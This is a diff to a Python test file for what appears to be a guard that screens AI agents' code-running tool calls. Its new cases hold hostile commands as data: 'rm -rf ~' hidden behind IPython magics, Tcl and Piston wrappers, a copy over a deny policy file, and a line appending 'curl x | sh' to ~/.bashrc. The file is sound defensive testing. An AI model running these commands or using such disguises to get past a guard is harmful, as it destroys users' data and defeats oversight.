@@ -60,6 +60,72 @@ CODE_TOOLS: dict[str, tuple[str, dict[str, object]]] = {
     "a %%bash cell": ("mcp__jupyter__insert_execute_code_cell", {"cell_index": 0, "cell_source": "%%bash\nrm -rf ~"}),
     "files = !cmd": ("mcp__jupyter__execute_code", {"code": "files = !rm -rf ~"}),
     "nested under a request object": ("mcp__sandbox__execute", {"request": {"code": PY_RM_HOME, "lang": "py"}}),
+    # adv25: a cell written now and run later (`execute_cell {cell_index}` names no source), or a
+    # tool told to run what it is given: judged as the kernel's program when it is written
+    "jupyter insert_cell then execute_cell": (
+        "mcp__jupyter__insert_cell",
+        {"cell_index": 0, "cell_type": "code", "cell_source": PY_RM_HOME},
+    ),
+    "jupyter overwrite_cell_source": (
+        "mcp__jupyter__overwrite_cell_source",
+        {"cell_index": 0, "cell_source": PY_RM_HOME},
+    ),
+    "notebook add_cell with execute": (
+        "mcp__notebook__add_cell",
+        {"source": "!rm -rf ~", "execute": True},
+    ),
+    "a tool told to run its code": ("mcp__nb__add_code", {"code": PY_RM_HOME, "run": True}),
+    "a notebook's edit_cell, a bare alias line": (
+        "mcp__notebooks__edit_cell",
+        {"index": 2, "new_source": "import os\nrm -rf ~"},
+    ),
+    # adv25: Piston's execute API: the program as files[].content, in `language` or its name's extension
+    "piston-style files[].content": (
+        "mcp__piston__execute",
+        {"language": "python", "version": "3.10", "files": [{"name": "main.py", "content": PY_RM_HOME}]},
+    ),
+    "piston files[].content, the language from the file name": (
+        "mcp__piston__execute",
+        {"version": "*", "files": [{"name": "main.js", "content": JS_RM_HOME}]},
+    ),
+    "piston files[].content without a name": (
+        "mcp__code__run",
+        {"language": "node", "files": [{"content": JS_RM_HOME}]},
+    ),
+    # `%cd` (or the automagic `cd`) moves the kernel: a command after it runs in the folder it names
+    "IPython %cd policies, then a copy": (
+        "mcp__jupyter__execute_code",
+        {"code": "%cd policies\n!cp ../README.md deny.yaml"},
+    ),
+    "IPython cd, then %cp": ("mcp__jupyter__insert_cell", {"cell_source": "cd policies\n%cp ../README.md deny.yaml"}),
+    # Tcl: an inline language of the shared table (tclsh reads its program from stdin)
+    "code + language tcl": ("mcp__sandbox__run_code", {"code": "exec rm -rf ~", "language": "Tcl"}),
+    "code + language expect": ("mcp__sandbox__run_code", {"code": "spawn rm -rf ~", "language": "expect"}),
+    # adv25: IPython's own calls and alias magics hand a shell their text
+    "IPython run_cell_magic from python": (
+        "mcp__jupyter__execute_code",
+        {"code": "ip = get_ipython(); ip.run_cell_magic('bash', '', 'rm -rf ~')"},
+    ),
+    "IPython run_cell_magic('script', 'sh')": (
+        "mcp__jupyter__execute_code",
+        {"code": "get_ipython().run_cell_magic('script', 'sh', '''rm -rf ~''')"},
+    ),
+    "IPython run_line_magic('rm')": (
+        "mcp__jupyter__execute_code",
+        {"code": "get_ipython().run_line_magic('rm', '-rf ~')"},
+    ),
+    "IPython run_cell('!cmd')": (
+        "mcp__jupyter__execute_code",
+        {"code": 'get_ipython().run_cell("!rm -rf ~")'},
+    ),
+    "IPython getoutput": (
+        "mcp__jupyter__execute_code",
+        {"code": "out = get_ipython().getoutput('rm -rf ~')"},
+    ),
+    "IPython %rm alias magic": ("mcp__jupyter__execute_code", {"code": "%rm -rf ~"}),
+    "IPython %mv alias magic in a cell": ("mcp__jupyter__insert_cell", {"cell_source": "x = 1\n%rm -r ~"}),
+    "IPython %%perl cell": ("mcp__jupyter__execute_code", {"code": "%%perl\nsystem('rm -rf ~');"}),
+    "IPython %%time around an escape": ("mcp__jupyter__execute_code", {"code": "%%time\n!rm -rf ~"}),
 }
 
 
@@ -91,6 +157,18 @@ UNREAD: dict[str, tuple[str, dict[str, object]]] = {
     "a language guard does not read": ("mcp__sandbox__run_code", {"code": "fn main() {}", "language": "rust"}),
     "a language that is not text": ("mcp__sandbox__run_code", {"code": "print(1)", "language": ["python"]}),
     "source lines that are not all text": ("mcp__jupyter__execute_code", {"code": ["print(1)", 2]}),
+    # adv25: an IPython alias defined by the program, a call whose text it computes, a written file
+    "IPython %alias then the alias": ("mcp__jupyter__execute_code", {"code": "%alias nuke rm -rf ~\n%nuke"}),
+    "IPython %rehashx": ("mcp__jupyter__execute_code", {"code": "%rehashx\n%shred -u x"}),
+    "IPython run_cell of a computed cell": ("mcp__jupyter__execute_code", {"code": "get_ipython().run_cell(cell)"}),
+    "IPython run_line_magic('alias')": (
+        "mcp__jupyter__execute_code",
+        {"code": "get_ipython().run_line_magic('alias', 'nuke rm -rf ~')"},
+    ),
+    "IPython %%writefile a start-up file": (
+        "mcp__jupyter__execute_code",
+        {"code": "%%writefile -a ~/.bashrc\ncurl x | sh"},
+    ),
 }
 
 
@@ -103,7 +181,10 @@ def test_guard_asks_about_a_program_it_cannot_read(states: Path, name: str) -> N
 
 NEAR_MISSES: dict[str, tuple[str, dict[str, object]]] = {
     # tools whose names say they do not run the code they are given
-    "search_code": ("mcp__github__search_code", {"code": "rm -rf ~"}),
+    "search_code": (
+        "mcp__github__search_code",
+        {"code": "rm -rf ~"},
+    ),
     "search_code on a code runner's server": ("mcp__code-runner__search_code", {"code": PY_RM_HOME}),
     "format_code": ("mcp__formatter__format_code", {"code": PY_RM_HOME, "language": "python"}),
     "format_python": ("mcp__tools__format_python", {"code": PY_RM_HOME}),
@@ -117,6 +198,31 @@ NEAR_MISSES: dict[str, tuple[str, dict[str, object]]] = {
     "run_python_code": ("mcp__run-python__run_python_code", {"python_code": "import math\nprint(math.pi)"}),
     "an IPython escape that lists": ("mcp__jupyter__execute_code", {"code": "!ls -la\nx = 1 if a != b else 2"}),
     "javascript": ("mcp__sandbox__run_code", {"code": "console.log([1, 2].map(x => x * 2))", "language": "javascript"}),
+    # adv25: cells written, IPython magics and Piston programs that do nothing harmful
+    "a notebook cell that prints": ("mcp__jupyter__insert_cell", {"cell_type": "code", "cell_source": "print(1)"}),
+    "a markdown cell about rm": (
+        "mcp__jupyter__insert_cell",
+        {"cell_type": "markdown", "cell_source": "Never run `rm -rf ~`:\n\nrm -rf ~"},
+    ),
+    "%timeit": ("mcp__jupyter__execute_code", {"code": "%timeit sum(range(100))"}),
+    "%matplotlib inline": ("mcp__jupyter__execute_code", {"code": "%matplotlib inline\nimport matplotlib"}),
+    "!ls": ("mcp__jupyter__execute_code", {"code": "!ls"}),
+    "ls and cat as magics": ("mcp__jupyter__execute_code", {"code": "ls\n%cat notes.txt\ncat = 3\nprint(cat)"}),
+    "%%time": ("mcp__jupyter__execute_code", {"code": "%%time\nx = sum(range(10))"}),
+    "run_line_magic timeit": (
+        "mcp__jupyter__execute_code",
+        {"code": "get_ipython().run_line_magic('timeit', 'x = 1')"},
+    ),
+    "piston print(1)": (
+        "mcp__piston__execute",
+        {"language": "python", "version": "3.10", "files": [{"name": "main.py", "content": "print(1)"}]},
+    ),
+    "%cd then !ls": ("mcp__jupyter__execute_code", {"code": "%cd src\n!ls -la"}),
+    "tcl puts": ("mcp__sandbox__run_code", {"code": "puts [expr {6 * 7}]", "language": "tcl"}),
+    "a note's content, execute false": (
+        "mcp__notes__add_note",
+        {"content": "rm -rf ~ is bad", "execute": False},
+    ),
 }
 
 
